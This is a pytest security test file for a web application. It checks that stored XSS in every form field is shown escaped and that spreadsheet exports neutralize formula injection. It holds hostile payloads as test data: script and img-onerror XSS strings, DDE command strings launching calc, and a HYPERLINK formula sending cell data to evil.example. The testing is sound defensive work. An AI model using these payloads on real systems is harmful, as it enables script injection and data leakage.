"""Stored XSS and spreadsheet formulas (SECURITY.md V2; OWASP CSV injection): every free-text
field a user can save, saved through its real form, comes back escaped on every page and
fragment that shows it, never as markup; and in the xlsx and CSV exports, text that starts like a
formula is kept as text, and still imports back to exactly what was typed."""

import csv
import io
import re
import shutil
import uuid
import zipfile
from typing import Any
from xml.etree import ElementTree

from fastapi.testclient import TestClient
from sqlalchemy import create_engine
from sqlmodel import Session, select

from liaison.auth.models import User
from liaison.auth.roles import Role
from liaison.config import get_settings
from liaison.db import upgrade
from liaison.desk.models import ServiceRequest
from liaison.disputes.models import Dispute
from liaison.enterprises.models import Enterprise, EnterpriseContact
from liaison.hazards.models import Hazard
from liaison.ledger import exporter, importer
from liaison.ledger.reader import open_source
from liaison.org.models import Officer, Station
from liaison.projects.models import Project
from liaison.projects.service import today
from liaison.recoveries.models import Recovery
from tests.factories import PASSWORD, TRACKING_NO, csrf_token, login, post
from tests.images import jpeg
from tests.security.world import World, build_world, fast_hashing  # noqa: F401

HTMX = {"HX-Request": "true"}
# Markup with a tag naming the field it was saved in, so a page can be checked for each field.
SCRIPT = '<script>alert("{}")</script>'
IMG = '"><img src=x onerror=alert({})>'
RAW_MARKUP = re.compile(r"<script>alert|<img src=x")


def markup(tag: str, short: bool = False) -> str:
    """Both payloads (62 characters), or for a field of at most 32 the script alone."""
    return SCRIPT.format(tag) if short else SCRIPT.format(tag) + IMG.format(tag)


def escaped(tag: str) -> str:
    """How a page shows `markup(tag)` when Jinja escapes it."""
    return f"&lt;script&gt;alert(&#34;{tag}&#34;)&lt;/script&gt;"


def saved(response: Any) -> str:
    """The page a successful form POST redirects to."""
    assert response.status_code == 303, f"{response.status_code}: {response.text[:2000]}"
    return str(response.headers["location"])


def new_id(response: Any) -> int:
    return int(re.findall(r"/(\d+)", saved(response))[-1])


def send(client: TestClient, url: str, data: dict[str, str], **kwargs: Any) -> Any:
    return post(client, url, data, follow_redirects=False, **kwargs)


class Pages:
    """Every page fetched, by who, with what it shows."""

    def __init__(self, client: TestClient) -> None:
        self.client = client
        self.seen: list[tuple[str, str, str]] = []  # (who, url, body)

    def get(self, who: str, url: str, headers: dict[str, str] | None = None) -> str:
        response = self.client.get(url, headers=headers or {})
        assert response.status_code == 200, f"{who} GET {url}: {response.status_code}"
        self.seen.append((who, url, response.text))
        return response.text

    def keep(self, who: str, url: str, response: Any) -> None:
        """A page that answered a POST."""
        self.seen.append((who, url, response.text))

    def shown(self, tag: str) -> set[str]:
        return {f"{who} {url}" for who, url, body in self.seen if escaped(tag) in body}


# ---- saving markup through the forms ---------------------------------------------------


def as_admin(client: TestClient, world: World, pages: Pages) -> dict[str, Any]:
    """Station and officer names and a calendar note (the system administrator's); a display
    name (the security administrator's); a username with markup is
    refused (usernames are letters, digits and `._-`), and the form that says so shows it
    escaped."""
    world.login(client, Role.ADMIN)
    own = world.own
    saved(
        send(
            client,
            f"/admin/stations/{own.station.id}",
            {"code": own.station.code, "name": markup("st"), "active": "on"},
        )
    )
    saved(
        send(
            client,
            f"/admin/officers/{own.officer.id}",
            {
                "badge_no": own.officer.badge_no,
                "name": markup("of", short=True),
                "phone": own.officer.phone or "",
                "station_code": own.station.code,
                "active": "on",
            },
        )
    )
    saved(send(client, "/admin/calendar", {"day": "2030-10-08", "note": markup("ca", True)}))
    world.login(client, Role.SECURITY)  # accounts are the security administrator's
    chief = world.user(Role.CHIEF)
    saved(
        send(
            client,
            f"/admin/users/{chief.id}",
            {"display_name": markup("dn"), "role": "chief", "badge_no": own.chief.badge_no},
        )
    )
    refused = send(
        client,
        "/admin/users",
        {
            "username": markup("un"),
            "display_name": "某人",
            "role": "leader",
            "password": PASSWORD,
        },
    )
    assert refused.status_code == 422
    assert world.db.exec(select(User).where(User.username == markup("un"))).first() is None
    pages.keep("security", "POST /admin/users", refused)
    return {"chief": chief}


def as_keeper_upload(client: TestClient, world: World) -> int:
    """A ledger file whose name is markup (a name has no '/': the image payload alone)."""
    world.login(client, Role.LEADER)
    book = io.BytesIO()
    exporter.write_workbook(None, book)
    name = IMG.format("lf") + ".xlsx"
    response = client.post(
        "/ledger/check",
        data={"csrf_token": csrf_token(client)},
        files={"file": (name, book.getvalue(), "application/octet-stream")},
        follow_redirects=False,
    )
    return new_id(response)


def as_chief(client: TestClient, world: World) -> dict[str, int]:
    """The enterprise's own fields and a new contact; a new project of it, with its file; the
    officer named with a reason."""
    world.login(client, Role.CHIEF)
    own = world.own
    enterprise = own.enterprise
    saved(
        send(
            client,
            f"/enterprises/{enterprise.id}",
            {
                "uscc": enterprise.uscc,
                "name": markup("en"),
                "industry": markup("in"),
                "town": markup("tw"),
                "address": markup("ad"),
            },
        )
    )
    saved(
        send(
            client,
            f"/enterprises/{enterprise.id}/contacts",
            {
                "name": markup("cn", True),
                "title": markup("ct", True),
                "phone": "13900001234",
            },
        )
    )
    project_id = new_id(
        send(
            client,
            "/projects",
            {
                "code": "XSS-1",
                "name": markup("pn"),
                "enterprise_uscc": enterprise.uscc,
                "level": "区级",
                "stage": "在建",
                "station_id": str(own.station.id),
                "site_security_contact": markup("sc", True),
                "key_risks": markup("kr"),
                "notes": markup("no"),
            },
        )
    )
    saved(
        send(
            client,
            f"/projects/{project_id}/assign",
            {"officer_id": str(own.officer.id), "reason": markup("as")},
        )
    )
    return {"project": project_id}


def as_officer(client: TestClient, world: World, project_id: int) -> dict[str, int]:
    """A visit, a hazard and a step of its loop, two disputes (one mediated, one transferred),
    a ledger entry and its reversal, a request logged from a phone call."""
    world.login(client, Role.OFFICER)
    day = today().isoformat()
    saved(
        send(
            client,
            f"/projects/{project_id}/visits",
            {"visit_date": day, "kind": "走访", "summary": markup("vs")},
        )
    )
    hazard = new_id(
        send(
            client,
            f"/projects/{project_id}/hazards",
            {
                "category": "消防安全",
                "level": "一般",
                "description": markup("hd"),
                "location": markup("hl"),
                "found_on": day,
                "responsible_party": markup("hr"),
            },
            files={"photos": (IMG.format("af") + ".jpg", jpeg(), "image/jpeg")},
        )
    )
    saved(send(client, f"/hazards/{hazard}/steps", {"action": "start", "comment": markup("hc")}))
    case = {
        "type": "劳资纠纷",
        "received_on": day,
        "party_role_0": "申请人",
        "party_name_0": markup("dp"),
        "party_role_1": "被申请人",
        "party_name_1": "某公司",
    }
    opened = f"/projects/{project_id}/disputes"
    dispute = new_id(send(client, opened, {**case, "facts": markup("df")}))
    saved(
        send(
            client,
            f"/disputes/{dispute}/resolve",
            {
                "obligations": markup("do"),
                "agreement_amount": "1000",
                "performance_method": markup("dm"),
            },
        )
    )
    saved(
        send(client, f"/disputes/{dispute}/follow-up", {"visited_on": day, "summary": markup("du")})
    )
    transferred = new_id(send(client, opened, {**case, "facts": "欠薪"}))
    saved(
        send(
            client,
            f"/disputes/{transferred}/transfer",
            {"transferred_to": markup("dt"), "reason": markup("dr")},
        )
    )
    entry = new_id(
        send(
            client,
            f"/projects/{project_id}/recoveries",
            {
                "amount": "500.00",
                "recovered_on": day,
                "source": "电信诈骗返还",
                "case_number": markup("rc"),
                "note": markup("rn"),
                "submission_key": uuid.uuid4().hex,
            },
        )
    )
    saved(send(client, f"/recoveries/{entry}/reverse", {"amount": "10", "reason": markup("rv")}))
    request = new_id(
        send(
            client,
            "/requests/new",
            {
                "type": "求助",
                "topic": "其他",
                "content": markup("rq"),
                "name": markup("rs", True),
                "phone": "13800001234",
                "channel": "电话",
                "project_code": "XSS-1",
                "submission_key": uuid.uuid4().hex,
            },
        )
    )
    saved(send(client, f"/requests/{request}/accept", {}))
    saved(send(client, f"/requests/{request}/reply", {"body": markup("rp")}))
    saved(send(client, f"/requests/{request}/note", {"body": markup("nt")}))
    return {
        "hazard": hazard,
        "dispute": dispute,
        "transferred": transferred,
        "recovery": entry,
        "request": request,
    }


def from_the_public(client: TestClient, pages: Pages) -> dict[str, Any]:
    """The public form of the project's poster: content, name and the enterprise as written."""
    client.cookies.clear()
    response = send(
        client,
        "/r/XSS-1",
        {
            "type": "投诉",
            "topic": "其他",
            "content": markup("pc"),
            "name": markup("pu", True),
            "phone": "13800005678",
            "enterprise_name": markup("pe"),
            "consent": "on",
            "submission_key": uuid.uuid4().hex,
        },
    )
    assert response.status_code == 200, response.text
    pages.keep("anonymous", "POST /r/XSS-1", response)
    number = re.search(TRACKING_NO, response.text)
    assert number, "the page gives the tracking number"
    return {"tracking_no": number.group(0), "last4": "5678"}


def as_handlers(client: TestClient, world: World, ids: dict[str, Any]) -> None:
    """The chief answers the public request (and notes something internal) and closes it,
    transfers the phoned one and declines one from the poster, each with its text; then the
    enterprise contact sends one of their own, which the duty desk (a leader) answers, with an
    internal note."""
    db = world.db
    public = db.exec(
        select(ServiceRequest).where(ServiceRequest.tracking_no == ids["tracking_no"])
    ).one()
    ids["public"] = public.id
    world.login(client, Role.CHIEF)
    saved(send(client, f"/requests/{public.id}/accept", {}))
    saved(send(client, f"/requests/{public.id}/reply", {"body": markup("tp")}))
    saved(send(client, f"/requests/{public.id}/note", {"body": markup("n3")}))
    saved(send(client, f"/requests/{public.id}/close", {"summary": markup("cl")}))
    saved(
        send(
            client,
            f"/requests/{ids['request']}/transfer",
            {"to": f"o{world.own.chief.id}", "reason": markup("tr")},
        )
    )
    ids["declined"] = world.own.poster_request.id
    saved(send(client, f"/requests/{ids['declined']}/decline", {"reason": markup("dc")}))
    world.login(client, Role.ENTERPRISE)
    ids["own_request"] = new_id(
        send(
            client,
            "/requests/new",
            {
                "type": "咨询",
                "topic": "涉企服务",
                "content": markup("ec"),
                "name": "李联系",
                "phone": "13700001111",
                "submission_key": uuid.uuid4().hex,
            },
        )
    )
    world.login(client, Role.LEADER)
    saved(send(client, f"/requests/{ids['own_request']}/accept", {}))
    saved(send(client, f"/requests/{ids['own_request']}/reply", {"body": markup("er")}))
    saved(send(client, f"/requests/{ids['own_request']}/note", {"body": markup("n2")}))


# ---- reading every page ----------------------------------------------------------------


def staff_pages(ids: dict[str, Any], world: World) -> list[str]:
    p, h, d, r = ids["project"], ids["hazard"], ids["dispute"], ids["recovery"]
    officer, enterprise = world.own.officer.id, world.own.enterprise.id
    lists = [
        "/projects",
        "/projects?q=XSS",
        "/coverage",
        "/officers",
        "/enterprises",
        "/hazards",
        "/disputes",
        "/recoveries",
        *(f"/recoveries?by={by}" for by in ("station", "project", "enterprise", "officer")),
        "/requests?box=all",
    ]
    return [
        "/home",
        *lists,
        *(f"{url}#htmx" for url in lists),
        f"/projects/{p}",
        f"/projects/{p}/edit",
        f"/projects/{p}/poster",
        f"/projects/{p}/hazards/new",
        f"/projects/{p}/disputes/new",
        f"/projects/{p}/recoveries/new",
        f"/officers/{officer}/reassign",
        f"/enterprises/{enterprise}",
        f"/enterprises/{enterprise}/edit",
        f"/hazards/{h}",
        f"/disputes/{d}",
        f"/disputes/{d}/agreement",
        f"/disputes/{ids['transferred']}",
        f"/recoveries/{r}",
        f"/requests/{ids['request']}",
        f"/requests/{ids['public']}",
        f"/requests/{ids['declined']}",
        "/dashboard",
        "/dashboard/brief",
        *(
            f"/dashboard/records?figure={figure}"
            for figure in ("hazards.found", "disputes.received", "recoveries.count")
        ),
    ]


def read_everything(client: TestClient, world: World, pages: Pages, ids: dict[str, Any]) -> None:
    for role in (Role.CHIEF, Role.LEADER, Role.OFFICER):
        world.login(client, role)
        for url in staff_pages(ids, world):
            if url.endswith("/new") and role == Role.LEADER:
                continue  # the forms of those who log records with an officer record
            if url.startswith(("/dashboard", "/officers/")) and role == Role.OFFICER:
                continue  # a chief's and the leaders' pages
            path, htmx = url.removesuffix("#htmx"), url.endswith("#htmx")
            pages.get(role.value, path, HTMX if htmx else None)
        if role == Role.LEADER:  # the duty desk, and the ledger's keepers
            pages.get("leader", f"/requests/{ids['own_request']}")
            pages.get("leader", "/ledger")
            pages.get("leader", f"/ledger/uploads/{ids['upload']}")
            pages.get("leader", f"/ledger/uploads/{ids['upload']}/progress", HTMX)

    world.login(client, Role.ENTERPRISE)
    for url in (
        "/home",
        "/projects",
        f"/projects/{ids['project']}",
        f"/enterprises/{world.own.enterprise.id}",
        f"/hazards/{ids['hazard']}",
        f"/recoveries/{ids['recovery']}",
        "/requests",
        f"/requests/{ids['own_request']}",
    ):
        pages.get("enterprise", url)

    world.login(client, Role.SECURITY)
    for url in ("/admin/users", f"/admin/users/{ids['chief'].id}"):
        pages.get("security", url)
    world.login(client, Role.ADMIN)
    for url in (
        "/admin/stations",
        f"/admin/stations/{world.own.station.id}",
        "/admin/officers",
        f"/admin/officers/{world.own.officer.id}",
        "/admin/calendar",
    ):
        pages.get("admin", url)

    world.login(client, Role.AUDITOR)
    listing = pages.get("auditor", "/audit")
    for row_id in sorted(set(re.findall(r'href="/audit/(\d+)"', listing)))[:60]:
        pages.get("auditor", f"/audit/{row_id}")

    client.cookies.clear()
    pages.get("anonymous", "/r/XSS-1")
    tracked = send(client, "/track", {"tracking_no": ids["tracking_no"], "last4": ids["last4"]})
    assert tracked.status_code == 200, tracked.text
    pages.keep("anonymous", "POST /track", tracked)


def failed_login_with_markup(client: TestClient, pages: Pages) -> None:
    client.cookies.clear()
    response = login(client, markup("lg"), "wrong-password")
    assert response.status_code == 401
    pages.keep("anonymous", "POST /login", response)


# Where each field must at least show (who, url): the field's own page or list.
MUST_SHOW = {
    "st": "admin /admin/stations",
    "of": "chief /officers",
    "dn": "security /admin/users",
    "un": "security POST /admin/users",
    "ca": "admin /admin/calendar",
    "en": "chief /enterprises",
    "in": "chief /enterprises/{enterprise}",
    "tw": "chief /enterprises/{enterprise}",
    "ad": "chief /enterprises/{enterprise}",
    "cn": "chief /enterprises/{enterprise}",
    "ct": "chief /enterprises/{enterprise}",
    "pn": "chief /projects",
    "sc": "chief /projects/{project}",
    "kr": "chief /projects/{project}",
    "no": "chief /projects/{project}",
    "as": "chief /projects/{project}",
    "vs": "chief /projects/{project}",
    "hd": "chief /hazards/{hazard}",
    "hl": "chief /hazards/{hazard}",
    "hr": "chief /hazards/{hazard}",
    "hc": "chief /hazards/{hazard}",
    "df": "chief /disputes/{dispute}",
    "dp": "chief /disputes/{dispute}/agreement",
    "do": "chief /disputes/{dispute}/agreement",
    "dm": "chief /disputes/{dispute}",
    "du": "chief /disputes/{dispute}",
    "dt": "chief /disputes/{transferred}",
    "dr": "chief /disputes/{transferred}",
    "rc": "chief /recoveries/{recovery}",
    "rn": "chief /recoveries/{recovery}",
    "rv": "chief /projects/{project}",  # a reversal's reason is its note, on the timeline
    "rq": "chief /requests/{request}",
    "rs": "chief /requests/{request}",
    "rp": "chief /requests/{request}",
    "nt": "chief /requests/{request}",
    "tr": "chief /requests/{request}",
    "pc": "chief /requests/{public}",
    "pu": "chief /requests/{public}",
    "pe": "chief /requests/{public}",
    "tp": "anonymous POST /track",
    "cl": "anonymous POST /track",
    "ec": "enterprise /requests/{own_request}",
    "er": "enterprise /requests/{own_request}",
    "dc": "chief /requests/{declined}",
    "lg": "auditor /audit",
    "n2": "leader /requests/{own_request}",
    "n3": "chief /requests/{public}",
}
# Internal notes are the staff's: the sender never sees them, escaped or not.
INTERNAL = {"nt", "n2", "n3"}


def test_stored_markup_is_escaped_everywhere_it_is_shown(client, db):
    world = build_world(db)
    pages = Pages(client)
    ids: dict[str, Any] = as_admin(client, world, pages)
    ids["upload"] = as_keeper_upload(client, world)
    ids.update(as_chief(client, world))
    ids.update(as_officer(client, world, ids["project"]))
    ids.update(from_the_public(client, pages))
    as_handlers(client, world, ids)
    failed_login_with_markup(client, pages)
    read_everything(client, world, pages, ids)

    raw = [f"{who} {url}" for who, url, body in pages.seen if RAW_MARKUP.search(body)]
    assert not raw, f"markup served as markup: {raw}"
    ids["enterprise"] = world.own.enterprise.id
    missing = {
        tag: where.format(**ids)
        for tag, where in MUST_SHOW.items()
        if where.format(**ids) not in pages.shown(tag)
    }
    assert not missing, f"not shown escaped where expected: {missing}"
    assert pages.shown("lg") >= {"anonymous POST /login"}  # the login form, typed back
    # A file name loses the characters Windows refuses in one (`<>"` among them): what stays of
    # the image tag is shown as text.
    upload_name = "img src=x onerror=alert(lf).xlsx"
    for url in ("/ledger", f"/ledger/uploads/{ids['upload']}"):
        assert any(upload_name in body for _, seen, body in pages.seen if seen == url), url
    for who, url, body in pages.seen:
        if who in ("enterprise", "anonymous"):
            assert not any(escaped(tag) in body for tag in INTERNAL), f"{who} {url}"


# ---- spreadsheets: formulas stay text, and come back as typed --------------------------

# Text a spreadsheet would run (OWASP CSV injection), one in each exported free-text field.
FORMULAS = {
    "station": "=1+2",
    "officer": "+1+2",
    "enterprise": '=HYPERLINK("http://evil.example","点我")',
    "contact": "-1+cmd|' /C calc'!A0",
    "project": '=HYPERLINK("http://evil.example/?leak="&B2,"详情")',
    "hazard": "@SUM(1+1)*cmd|' /C calc'!A0",
    "quoted": "'=already quoted",  # a leading quote of its own survives the trip too
    "dispute": "=cmd|' /C calc'!A0",
    "recovery": "-2+3+cmd|' /C calc'!A0",
    "request": "=1+2+cmd|' /C calc'!A0",
    "submitter": "@SUM(A1)",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def would_run(text: str) -> bool:
    return text.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(text)


def save_formulas(client: TestClient, world: World) -> None:
    own = world.own
    world.login(client, Role.ADMIN)
    station = {"code": own.station.code, "name": FORMULAS["station"], "active": "on"}
    saved(send(client, f"/admin/stations/{own.station.id}", station))
    officer = {
        "badge_no": own.officer.badge_no,
        "name": FORMULAS["officer"],
        "phone": own.officer.phone or "",
        "station_code": own.station.code,
        "active": "on",
    }
    saved(send(client, f"/admin/officers/{own.officer.id}", officer))

    world.login(client, Role.CHIEF)
    enterprise = own.enterprise
    fields = {"uscc": enterprise.uscc, "industry": markup("in"), "address": markup("ad")}
    saved(send(client, f"/enterprises/{enterprise.id}", {**fields, "name": FORMULAS["enterprise"]}))
    contact = {"name": FORMULAS["contact"], "phone": "13900001234", "is_primary": "on"}
    saved(send(client, f"/enterprises/{enterprise.id}/contacts", contact))
    project = {
        "code": own.project.code,
        "name": FORMULAS["project"],
        "enterprise_uscc": enterprise.uscc,
        "level": "区级",
        "stage": "在建",
        "station_id": str(own.station.id),
    }
    saved(send(client, f"/projects/{own.project.id}", project))

    world.login(client, Role.OFFICER)
    day, at = today().isoformat(), f"/projects/{own.project.id}"
    for text in (FORMULAS["hazard"], FORMULAS["quoted"]):
        hazard = {"category": "治安防范", "level": "一般", "description": text, "found_on": day}
        saved(send(client, f"{at}/hazards", hazard))
    case = {"type": "合同纠纷", "received_on": day, "facts": FORMULAS["dispute"]}
    saved(send(client, f"{at}/disputes", {**case, "party_role_0": "申请人", "party_name_0": "甲"}))
    entry = {
        "amount": "88.00",
        "recovered_on": day,
        "source": "其他",
        "note": FORMULAS["recovery"],
        "submission_key": uuid.uuid4().hex,
    }
    saved(send(client, f"{at}/recoveries", entry))

    client.cookies.clear()
    public = {
        "type": "建议",
        "content": FORMULAS["request"],
        "name": FORMULAS["submitter"],
        "phone": "13800009999",
        "consent": "on",
        "submission_key": uuid.uuid4().hex,
    }
    assert send(client, f"/r/{own.project.code}", public).status_code == 200


def xml(data: bytes) -> ElementTree.Element:
    return ElementTree.fromstring(data)  # noqa: S314  (the app's own export, in a test)


def xlsx_cells(content: bytes) -> list[tuple[str, str, str, str]]:
    """Every cell of a workbook as (sheet file, cell, text, how it is kept): "formula",
    "quoted" (text with Excel's quote prefix) or "plain"."""
    cells = []
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        styles = xml(book.read("xl/styles.xml"))
        xfs = styles.find(f"{NS}cellXfs")
        quoted = {n for n, xf in enumerate(xfs or []) if xf.get("quotePrefix") in ("1", "true")}
        shared = []
        if "xl/sharedStrings.xml" in book.namelist():
            strings = xml(book.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{NS}t")) for si in strings]
        for name in book.namelist():
            if not name.startswith("xl/worksheets/sheet"):
                continue
            sheet = book.read(name)
            assert b"<script" not in sheet, name  # markup is XML-escaped text, never elements
            for cell in xml(sheet).iter(f"{NS}c"):
                if cell.get("t") == "s":
                    text = shared[int(cell.findtext(f"{NS}v") or 0)]
                else:
                    text = "".join(t.text or "" for t in cell.iter(f"{NS}t"))
                    text = text or cell.findtext(f"{NS}v") or ""
                kept = (
                    "formula"
                    if cell.find(f"{NS}f") is not None
                    else "quoted"
                    if int(cell.get("s", 0)) in quoted
                    else "plain"
                )
                cells.append((name, cell.get("r", ""), text, kept))
    return cells


def xlsx_problems(content: bytes, carries: set[str]) -> list[str]:
    cells = xlsx_cells(content)
    problems = [
        f"{name} {ref}: {text!r} is {kept}"
        for name, ref, text, kept in cells
        if kept == "formula" or (would_run(text) and kept != "quoted")
    ]
    texts = {text for _, _, text, _ in cells}
    problems += [f"missing {text!r}" for text in carries - texts]
    return problems


def csv_problems(content: bytes, carries: set[str]) -> list[str]:
    fields = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8-sig")
            fields += [(name, field) for row in csv.reader(io.StringIO(text)) for field in row]
    problems = [f"{name}: {field!r} would run" for name, field in fields if would_run(field)]
    found = {field for _, field in fields}
    problems += [f"missing {text!r}" for text in carries if "'" + text not in found]
    return problems


# Which of the formulas each export carries (beyond these, every cell is checked).
LIST_EXPORTS = {
    "/projects?format=xlsx": {"project"},
    "/hazards?format=xlsx": {"hazard", "quoted"},
    "/disputes?format=xlsx": {"dispute"},
    "/recoveries?format=xlsx": {"recovery"},
    "/requests?box=all&format=xlsx": {"request", "submitter"},
    "/dashboard/export.xlsx": {"station", "hazard", "dispute", "recovery", "request"},
}


def test_exports_keep_formula_like_text_as_text(client, db):
    world = build_world(db)
    save_formulas(client, world)
    problems = []
    world.login(client, Role.CHIEF)
    for url, carries in LIST_EXPORTS.items():
        response = client.get(url)
        assert response.status_code == 200, url
        problems += [
            f"{url}: {p}" for p in xlsx_problems(response.content, {FORMULAS[k] for k in carries})
        ]
    world.login(client, Role.LEADER)
    ledger = client.get("/ledger/export.xlsx")
    problems += [f"ledger xlsx: {p}" for p in xlsx_problems(ledger.content, set(FORMULAS.values()))]
    zipped = client.get("/ledger/export.zip")
    formulas = {text for text in FORMULAS.values() if would_run(text.lstrip("'"))}
    problems += [f"ledger csv: {p}" for p in csv_problems(zipped.content, formulas)]
    assert not problems, "\n".join(problems)


def imported(url: str, data: bytes, filename: str) -> set[str]:
    """Import `data` into the empty database at `url`; the free text it then holds."""
    with Session(create_engine(url)) as empty:
        with open_source(data, filename) as source:
            plan = importer.check(empty, source, get_settings())
        assert plan.ok, plan.problems[:5]
        importer.apply(empty, plan, by_user_id=None)
        empty.commit()
        columns = (
            Station.name,
            Officer.name,
            Enterprise.name,
            Enterprise.industry,
            EnterpriseContact.name,
            Project.name,
            Hazard.description,
            Dispute.facts,
            Recovery.note,
            ServiceRequest.content,
            ServiceRequest.submitter_name,
        )
        return {value for column in columns for value in empty.exec(select(column)).all()}


def test_an_exported_ledger_imports_back_to_the_text_as_typed(client, db, tmp_path):
    """Quoting a formula-like cell must not cost the round trip: the workbook and the CSV zip
    each import into an empty database with every text exactly as it was saved."""
    world = build_world(db)
    for enterprise in db.exec(select(Enterprise)).all():
        enterprise.industry = enterprise.industry or "制造业"  # required by the ledger
        db.add(enterprise)
    db.commit()
    save_formulas(client, world)
    world.login(client, Role.LEADER)
    first = tmp_path / "first.db"
    upgrade(f"sqlite:///{first}")
    shutil.copyfile(first, tmp_path / "second.db")
    for url, database, name in (
        ("/ledger/export.xlsx", first, "ledger.xlsx"),
        ("/ledger/export.zip", tmp_path / "second.db", "ledger.zip"),
    ):
        response = client.get(url)
        assert response.status_code == 200
        texts = imported(f"sqlite:///{database}", response.content, name)
        assert set(FORMULAS.values()) | {markup("in")} <= texts, name
